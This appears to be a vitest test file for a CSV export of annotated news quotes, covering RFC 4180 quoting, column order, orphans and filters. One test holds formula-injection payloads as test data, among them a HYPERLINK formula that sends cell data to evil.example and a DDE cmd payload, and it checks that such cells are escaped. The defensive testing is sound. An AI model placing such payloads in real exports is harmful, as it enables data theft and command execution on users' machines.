import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { briefToCsv, CSV_COLUMNS } from './csv';
import { buildBriefModel } from './model';
import type { BriefArticle, BriefInput, BriefOptions, BriefQuote } from './types';

function quote(id: string, exact: string, extra: Partial<BriefQuote> = {}): BriefQuote {
  return {
    id,
    exact,
    tags: ['claim'],
    note: '',
    status: 'exact',
    location: { paragraph: 1, start: 0, end: Array.from(exact).length },
    sameClaimAs: [],
    ...extra,
  };
}

const NASTY = [
  'Plain, with a comma',
  'She said "no", twice',
  'Line one\nline two\r\nline three',
  'Emoji 😀👍🏽 and a family 👨‍👩‍👧',
  'NBSP: 5\u00a0km and a narrow one 5\u202fkm',
  '  leading and trailing spaces  ',
  '',
];

function input(articles: BriefArticle[], options?: BriefOptions): BriefInput {
  return {
    setName: 'Test set',
    exportedAt: new Date('2025-01-01T00:00:00Z'),
    tags: [
      { label: 'claim', color: '#f6c85f' },
      { label: 'denial', color: '#7ec8e3' },
      { label: 'casualties', color: '#9ad0a4' },
    ],
    articles,
    ...(options ? { options } : {}),
  };
}

function rows(csv: string): string[][] {
  return parse(csv, { relax_column_count: false }) as string[][];
}

describe('briefToCsv', () => {
  it('writes a header and one row per annotation that parse back to the same values', () => {
    const article: BriefArticle = {
      file: 'a, "b".txt',
      title: 'Title, with "quotes"\nand a line break',
      quotes: NASTY.map((text, i) =>
        quote(`urn:uuid:${i}`, text || 'x', {
          note: text,
          attribution: text || undefined,
          tags: ['claim', 'denial'],
          stance: 'disputes',
          confidence: 'high',
          location: { paragraph: 2, start: 10 + i, end: 20 + i },
        }),
      ),
    };
    const parsed = rows(briefToCsv(input([article])));
    expect(parsed[0]).toEqual([...CSV_COLUMNS]);
    expect(parsed).toHaveLength(NASTY.length + 1);
    NASTY.forEach((text, i) => {
      expect(parsed[i + 1]).toEqual([
        'a, "b".txt',
        'Title, with "quotes"\nand a line break',
        text || 'x',
        'claim; denial',
        'disputes',
        text,
        'high',
        text,
        String(10 + i),
        String(20 + i),
        'exact',
        '',
        '',
        '',
      ]);
    });
  });

  it('follows RFC 4180: CRLF between records, fields with commas, quotes or line breaks quoted, no BOM', () => {
    const csv = briefToCsv(input([{ file: 'a.txt', title: 'T', quotes: [quote('1', 'He said "hi", then\nleft')] }]));
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    expect(csv.startsWith('article,title,quote,tags,stance,attribution,confidence,note,start,end,status,url,accessed,creator\r\n')).toBe(true);
    expect(csv).toContain('"He said ""hi"", then\nleft"');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it("gives each row its article's url and accessed day (before the creator)", () => {
    const web: BriefArticle = { file: 'a.txt', title: 'A', url: 'https://news.example/a', accessed: '2026-12-03', quotes: [quote('1', 'Said')] };
    const parsed = rows(briefToCsv(input([web, { file: 'b.txt', title: 'B', quotes: [quote('2', 'Denied')] }])));
    expect(parsed.map((row) => row.slice(-3, -1))).toEqual([['url', 'accessed'], ['https://news.example/a', '2026-12-03'], ['', '']]);
  });

  it('keeps orphans, with empty start and end', () => {
    const orphan = quote('o', 'Gone from the text', { status: 'orphan', location: null });
    const parsed = rows(briefToCsv(input([{ file: 'a.txt', title: 'A', quotes: [orphan] }])));
    expect(parsed[1]).toEqual(['a.txt', 'A', 'Gone from the text', 'claim', '', '', '', '', '', '', 'orphan', '', '', '']);
  });

  it('names who coded each quote (the W3C creators), empty for annotations that name nobody', () => {
    const coded = quote('c', 'Coded by two', { creators: ['Alice Martin', 'Bob'] });
    const parsed = rows(briefToCsv(input([{ file: 'a.txt', title: 'A', quotes: [coded, quote('n', 'Nobody named')] }])));
    expect(parsed[1]?.at(-1)).toBe('Alice Martin; Bob');
    expect(parsed[2]?.at(-1)).toBe('');
  });

  it('guards against formula injection: cells starting with = + - @ tab or CR get an apostrophe', () => {
    const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
    const article: BriefArticle = {
      file: '=evil.txt',
      title: '@title',
      quotes: dangerous.map((text, i) => quote(`q${i}`, text, { note: text, attribution: text, tags: [text] })),
    };
    const parsed = rows(briefToCsv(input([article])));
    dangerous.forEach((text, i) => {
      const row = parsed[i + 1] as string[];
      expect(row[0]).toBe("'=evil.txt");
      expect(row[1]).toBe("'@title");
      for (const column of [2, 3, 5, 7]) expect(row[column]).toBe(`'${text}`);
      // Offsets are numbers and are left alone.
      expect(row[8]).toBe('0');
    });
    // Harmless text that merely contains those characters is untouched.
    const safe = rows(briefToCsv(input([{ file: 'a.txt', title: 'A', quotes: [quote('s', 'a = b, c - d @ e')] }])));
    expect(safe[1]?.[2]).toBe('a = b, c - d @ e');
  });

  describe('options: the same quotes as the Markdown brief', () => {
    const articles: BriefArticle[] = [
      {
        file: 'a.txt',
        title: 'A',
        quotes: [
          quote('a1', 'one', { tags: ['claim'], stance: 'asserts' }),
          quote('a2', 'two', { tags: ['claim', 'denial'], stance: 'disputes' }),
          quote('a3', 'three', { tags: [] }),
          quote('a4', 'four', { tags: ['casualties'], status: 'orphan', location: null }),
        ],
      },
      {
        file: 'b.txt',
        title: 'B',
        quotes: [quote('b1', 'five', { tags: ['denial'], stance: 'reports' }), quote('b2', 'six', { tags: [], status: 'orphan', location: null })],
      },
      { file: 'c.txt', title: 'C', quotes: [quote('c1', 'seven', { tags: ['casualties', 'claim'] })] },
    ];
    const cases: [string, BriefOptions | undefined, string[]][] = [
      ['no options', undefined, ['one', 'two', 'three', 'four', 'five', 'six', 'seven']],
      ['tags', { tags: ['denial'] }, ['two', 'five']],
      ['excludeTags', { excludeTags: ['claim'] }, ['two', 'three', 'four', 'five', 'six', 'seven']],
      ['articles', { articles: ['b.txt', 'c.txt'] }, ['five', 'six', 'seven']],
      ['excludeArticles', { excludeArticles: ['a.txt'] }, ['five', 'six', 'seven']],
      ['stances', { stances: ['disputes', 'reports'] }, ['two', 'five']],
      ['no stance', { stances: ['none'] }, ['three', 'four', 'six', 'seven']],
      ['a stance or none', { stances: ['asserts', 'none'] }, ['one', 'three', 'four', 'six', 'seven']],
      ['combined', { tags: ['claim', 'casualties'], articles: ['a.txt', 'c.txt'] }, ['one', 'two', 'four', 'seven']],
    ];
    it.each(cases)('%s', (_label, options, expected) => {
      const briefInput = input(articles, options);
      const parsed = rows(briefToCsv(briefInput)).slice(1);
      expect(parsed.map((r) => r[2])).toEqual(expected);
      // The Markdown brief (its model) covers exactly as many quotes.
      const { scope } = buildBriefModel(briefInput);
      expect(parsed).toHaveLength(scope.claims + scope.orphans + scope.untagged);
    });

    it('lists only the tags that pass the filter', () => {
      const parsed = rows(briefToCsv(input(articles, { excludeTags: ['claim'] })));
      expect(parsed.find((r) => r[2] === 'two')?.[3]).toBe('denial');
      expect(parsed.find((r) => r[2] === 'seven')?.[3]).toBe('casualties');
    });
  });
});
